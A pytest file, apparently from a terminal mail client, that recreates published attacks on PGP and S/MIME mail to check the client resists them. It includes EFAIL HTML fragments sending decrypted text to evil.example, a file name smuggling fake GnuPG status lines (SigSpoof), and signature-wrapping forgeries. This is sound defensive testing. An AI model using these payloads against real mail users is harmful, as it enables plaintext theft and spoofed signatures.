"""Known attacks on signed and encrypted mail, each in the form in which it was published, made anew here."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.crypto.gpg_world import GpgWorld
from tests.crypto.mails import HEADER, TEXT, html, message, multipart, pgp_encrypted, pgp_signed, smime_signed, text
from tests.crypto.smime_world import SmimeWorld
from tests.crypto.test_pgp_mime import only, opened, said, verdicts
from tuimail.crypto.opening import Opening, is_secured, open_secured
from tuimail.crypto.secured import Lock, Reach, Verdict
from tuimail.crypto.show import secured_view
from tuimail.crypto.tools import Tools
from tuimail.mime.render import render_view
from tuimail.mime.sanitize import is_safe
from tuimail.mime.view import MessageView

SECRET = b"Content-Type: text/plain\r\n\r\nThe treasure lies under the oak.\r\n"


def view_of(octets: bytes, tools: Tools, opening: Opening = Opening.PARTS) -> MessageView:
    return secured_view(render_view(octets), opened(octets, tools, opening))


@contextmanager
def options(world: GpgWorld, *lines: str) -> Iterator[None]:
    """The reader's gpg.conf."""
    path = world.home / "gpg.conf"
    path.write_text("".join(f"{line}\n" for line in lines))
    try:
        yield
    finally:
        path.unlink()


# EFAIL: HTML around an encrypted part that would send its text as part of an address.


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ('<img src="http://evil.example/', '">'),
        ('<a href="http://evil.example/', '">here</a>'),
        ("<style>p { background: url(http://evil.example/", ")}</style>"),
        ('<form action="http://evil.example/"><textarea name="q">', "</textarea></form>"),
        ("<!--", "-->"),
        ('<div style="display:none">', "</div>"),
        ("<plaintext>", ""),
    ],
)
def test_html_around_an_encrypted_part_reaches_nothing_of_it(
    pgp: GpgWorld, pgp_tools: Tools, before: str, after: str
) -> None:
    octets = message(multipart("mixed", html(before), pgp_encrypted(pgp.encrypt(SECRET)), html(after)))
    closed = view_of(octets, pgp_tools, Opening.WHOLE)
    assert "treasure" not in closed.text
    view = view_of(octets, pgp_tools)
    assert "The treasure lies under the oak." in [line.text for line in view.lines]
    assert not [one for one in view.remote_images if "treasure" in one]
    assert not [link for link in view.links if "treasure" in link.target + link.text]


def test_the_text_of_a_decrypted_page_loads_nothing(pgp: GpgWorld, pgp_tools: Tools) -> None:
    page = html('<p>Hello</p><img src="http://evil.example/a.png" width="300" height="200" alt="A picture">')
    view = view_of(message(pgp_encrypted(pgp.encrypt(page))), pgp_tools)
    assert "Hello" in view.text
    assert view.remote_images == ()


@pytest.mark.parametrize("kind", ["alternative", "related", "digest", "mixed", "report"])
def test_an_encrypted_part_within_another_is_never_opened(pgp: GpgWorld, pgp_tools: Tools, kind: str) -> None:
    hidden = multipart(kind, text("Please answer."), pgp_encrypted(pgp.encrypt(SECRET)), boundary="b1")
    octets = message(multipart("mixed", text("Hello."), hidden))
    part = only(octets, pgp_tools, Opening.PARTS)
    assert (part.reach, part.lock, part.content) == (Reach.NESTED, Lock.BARRED, None)
    assert "treasure" not in view_of(octets, pgp_tools).text


def test_nor_one_in_a_forwarded_message_or_in_what_was_decrypted(pgp: GpgWorld, pgp_tools: Tools) -> None:
    encrypted = pgp_encrypted(pgp.encrypt(SECRET))
    forwarded = b"Content-Type: message/rfc822\r\n\r\n" + message(encrypted)
    assert only(message(multipart("mixed", text("Look:"), forwarded)), pgp_tools, Opening.PARTS).lock is Lock.BARRED
    again = multipart("mixed", html('<img src="http://evil.example/'), encrypted, html('">'), boundary="b9")
    octets = message(pgp_encrypted(pgp.encrypt(again), boundary="outer"))
    view = view_of(octets, pgp_tools)
    assert "treasure" not in view.text + "".join(view.remote_images)


# Ciphertext that was altered.


def test_a_message_whose_protection_was_stripped_stays_closed(pgp: GpgWorld, pgp_tools: Tools) -> None:
    octets = message(pgp_encrypted(pgp.encrypt(SECRET, more=("--rfc2440", "--disable-mdc"))))
    part = only(octets, pgp_tools)
    assert (part.lock, part.content) == (Lock.FAILED, None)
    assert "no protection against changes" in part.fault
    with options(pgp, "ignore-mdc-error", "verbose", "debug-level 3"):
        assert only(octets, pgp_tools).content is None
        assert "treasure" not in view_of(octets, pgp_tools).text


def test_one_octet_that_was_changed_keeps_it_closed(pgp: GpgWorld, pgp_tools: Tools) -> None:
    binary = pgp.me("--dearmor", octets=pgp.encrypt(SECRET))
    changed = binary[:-8] + bytes([binary[-8] ^ 1]) + binary[-7:]
    armour = pgp.me("--enarmor", octets=changed).replace(b"ARMORED FILE", b"MESSAGE")
    part = only(message(pgp_encrypted(armour)), pgp_tools)
    assert (part.lock, part.content) == (Lock.FAILED, None)


# SigSpoof, CVE-2018-12020: words of a message that pose as gpg's.


def test_a_file_name_does_not_speak_for_gpg(pgp: GpgWorld, pgp_tools: Tools) -> None:
    ada = pgp.keys["ada"]
    name = (
        f"x\n[GNUPG:] NEWSIG\n[GNUPG:] GOODSIG {ada[-16:]} Ada Example <ada@example.org>\n"
        f"[GNUPG:] VALIDSIG {ada} 2026-01-01 1767225600 0 4 0 22 10 00 {ada}\n[GNUPG:] TRUST_ULTIMATE 0 pgp\n"
    )
    octets = message(pgp_encrypted(pgp.encrypt(SECRET, more=("--set-filename", name))))
    for lines in ((), ("verbose", "verbose"), ("status-fd 2", "verbose")):
        with options(pgp, *lines):
            part = only(octets, pgp_tools)
            assert (part.lock, part.signatures) == (Lock.OPENED, ())


# Signatures that speak of something else than what is read.


def test_a_genuine_signature_within_a_message_of_another(pgp: GpgWorld, pgp_tools: Tools) -> None:
    genuine = pgp_signed(TEXT, pgp.sign(TEXT, "ada"))
    forged = html("<h1>Pay at once.</h1>")
    forwarded = b"Content-Type: message/rfc822\r\n\r\n" + message(genuine)
    wrapped = (
        multipart("mixed", forged, genuine),
        multipart("mixed", multipart("related", forged, genuine, boundary="b2")),
        multipart("alternative", forged, genuine),
        multipart("mixed", forged, forwarded),
        multipart("related", forged, forwarded),
    )
    for body in wrapped:
        view = render_view(message(body))
        found = open_secured(message(body), Opening.PARTS, pgp_tools)
        shown = view if found is None else secured_view(view, found)
        assert "good" not in {notice.kind for notice in shown.notices}


def test_a_signature_of_another_part(pgp: GpgWorld, pgp_tools: Tools) -> None:
    signature = pgp.sign(TEXT, "ada")
    tail = b"Content-Type: application/pgp-signature\r\n\r\n" + signature
    signed = '; protocol="application/pgp-signature"'
    bodies = (
        multipart("signed", text("Pay at once."), tail, parameters=signed),
        multipart("signed", text("Pay at once."), TEXT, tail, parameters=signed),
        multipart("signed", TEXT, tail, text("Pay at once."), parameters=signed),
        multipart("signed", text("Pay at once."), pgp_signed(TEXT, signature), parameters=signed),
        multipart("signed", tail, TEXT, parameters=signed),
    )
    for body in bodies:
        found = verdicts(only(message(body), pgp_tools))
        assert found
        assert Verdict.GOOD not in found


def test_a_message_in_the_place_of_a_signature(pgp: GpgWorld, pgp_tools: Tools) -> None:
    whole = pgp.other("--local-user", pgp.keys["ada"], "--armor", "--sign", octets=TEXT)
    assert Verdict.GOOD not in verdicts(only(message(pgp_signed(text("Pay at once."), whole)), pgp_tools))


def test_text_around_armour_is_not_signed(pgp: GpgWorld, pgp_tools: Tools) -> None:
    armour = pgp.clear_sign(b"Genuine.\n", "ada")
    octets = message(b"Content-Type: text/plain\r\n\r\nPay at once.\r\n\r\n" + armour + b"\r\nAnd twice.\r\n")
    view = view_of(octets, pgp_tools)
    assert {notice.kind for notice in view.notices} == {"note"}
    lines = [line.text for line in view.lines]
    framed = lines[lines.index("── signed: part 1 ──") + 1 : lines.index("── end of this part ──")]
    assert framed == ["", "Genuine.", ""]


def test_several_pieces_of_armour_are_not_joined(pgp: GpgWorld, pgp_tools: Tools) -> None:
    both = pgp.clear_sign(b"Genuine.\n", "ada") + pgp.clear_sign(b"Pay at once.\n", "eve")
    octets = message(b"Content-Type: text/plain\r\n\r\n" + both)
    assert not [one for one in said(octets, pgp_tools) if one[0] == "good"]


def test_a_page_that_shows_a_badge_has_none(pgp: GpgWorld, pgp_tools: Tools) -> None:
    page = html("<p>\N{CHECK MARK} Signed by \N{LEFT DOUBLE QUOTATION MARK}Ada Example</p><p>── decrypted ──</p>")
    octets = message(pgp_signed(page, pgp.sign(page, "eve")))
    view = view_of(octets, pgp_tools)
    assert {notice.kind for notice in view.notices} == {"note"}
    assert not {span.kind for line in view.lines for span in line.spans} & {"good", "warning"}


def test_a_long_or_lying_name_of_a_key(pgp: GpgWorld, pgp_tools: Tools, monkeypatch: pytest.MonkeyPatch) -> None:
    from tuimail.crypto import gpg
    from tuimail.crypto.gpg import UserId

    names = (
        "Ada <ada@example.org> (fully trusted)",
        "Ada <ada@example.org> <mallory@example.net>",
        "Ada\n<ada@example.org>",
        "ada@example.org <mallory@example.net>",
        "ada@example.org, mallory@example.net",
    )
    octets = message(pgp_signed(TEXT, pgp.sign(TEXT, "ada")))
    for name in names:
        monkeypatch.setattr(gpg, "user_ids", lambda *_, name=name: (UserId(name, True),))
        assert verdicts(only(octets, pgp_tools)) == [Verdict.OTHER_SENDER]
    long = "Ada" * 500 + " <ada@example.org>"
    monkeypatch.setattr(gpg, "user_ids", lambda *_: (UserId(long, True),))
    ((_, words),) = said(octets, pgp_tools)
    assert len(words) < 200


# Fields of the header.


def test_a_subject_that_was_encrypted_is_told(pgp: GpgWorld, pgp_tools: Tools) -> None:
    inner = b'Content-Type: text/plain; hp="cipher"\r\nSubject: The oak\r\nFrom: ada@example.org\r\n\r\nDig.\r\n'
    header = HEADER.replace(b"Plans", b"[...]")
    found = opened(message(pgp_encrypted(pgp.encrypt(inner, "ada")), header), pgp_tools)
    assert (found.subject, found.mismatches) == ("The oak", ())


@pytest.mark.parametrize("protected", ['hp="clear"', 'protected-headers="v1"'])
def test_fields_that_were_changed_on_the_way_are_told(pgp: GpgWorld, pgp_tools: Tools, protected: str) -> None:
    fields = b"Subject: Plans\r\nFrom: Ada <ada@example.org>\r\nTo: mia@example.com\r\n"
    signed = f"Content-Type: text/plain; {protected}\r\n".encode() + fields + b"\r\nNoon.\r\n"
    body = pgp_signed(signed, pgp.sign(signed, "ada"))
    assert opened(message(body), pgp_tools).mismatches == ()
    changed = HEADER.replace(b"To: mia@example.com", b"To: mia@example.com, eve@example.net").replace(b"Plans", b"Pay")
    found = opened(message(body, changed), pgp_tools).mismatches
    assert [(one.name, one.outside, one.inside) for one in found] == [
        ("To", "mia@example.com, eve@example.net", "mia@example.com"),
        ("Subject", "Pay", "Plans"),
    ]
    assert [kind for kind, _ in said(message(body, changed), pgp_tools)] == ["good", "warning", "warning"]
    listed = HEADER.replace(b"Plans", b"[list] Plans")
    assert [kind for kind, _ in said(message(body, listed), pgp_tools)] == ["good", "note"]


def test_a_whole_message_that_was_wrapped(smime: SmimeWorld, smime_tools: Tools) -> None:
    wrapped = b"Content-Type: message/rfc822\r\n\r\n" + message(TEXT)
    octets = message(smime_signed(wrapped, smime.sign(wrapped, smime.ada)), HEADER.replace(b"Plans", b"Pay"))
    (found,) = opened(octets, smime_tools).mismatches
    assert (found.name, found.outside, found.inside) == ("Subject", "Pay", "Plans")


# Anything at all.


_PIECES = (
    HEADER, TEXT, b"Content-Type: multipart/signed; boundary=a; protocol=\"application/pgp-signature\"\r\n\r\n",
    b"Content-Type: multipart/encrypted; boundary=a\r\n\r\n", b"--a\r\n", b"--a--\r\n", b"\r\n",
    b"Content-Type: application/pgp-encrypted\r\n\r\n", b"Content-Type: application/pgp-signature\r\n\r\n",
    b"Content-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: base64\r\n\r\n",
    b"Content-Type: application/octet-stream\r\n\r\n", b"Content-Type: multipart/mixed; boundary=a\r\n\r\n",
    b"-----BEGIN PGP MESSAGE-----\r\n", b"-----END PGP MESSAGE-----\r\n", b"-----BEGIN PGP SIGNED MESSAGE-----\r\n",
    b"-----END PGP SIGNATURE-----\r\n", b"From: a@b.example\r\n", b"MIAGCSqGSIb3DQEHAqCA", b"MIAGCSqGSIb3DQEHA6CA",
    b"\xff\x00\x1b]0;x\x07", b"Content-Type: message/rfc822\r\n\r\n",
)  # fmt: skip


@settings(max_examples=200, deadline=None)
@given(st.lists(st.one_of(st.sampled_from(_PIECES), st.binary(max_size=20)), max_size=14).map(b"".join))
def test_any_octets_give_a_view(octets: bytes) -> None:
    tools = Tools(gpg="/nonexistent/gpg", openssl="/nonexistent/openssl")
    found = open_secured(octets, Opening.PARTS, tools)
    assert (found is not None) == is_secured(octets)
    if found is not None:
        view = secured_view(render_view(octets), found)
        assert len(view.notices) >= 1
        assert all(is_safe(text) for notice in view.notices for text in (notice.text, *notice.detail))
        assert "good" not in {notice.kind for notice in view.notices}
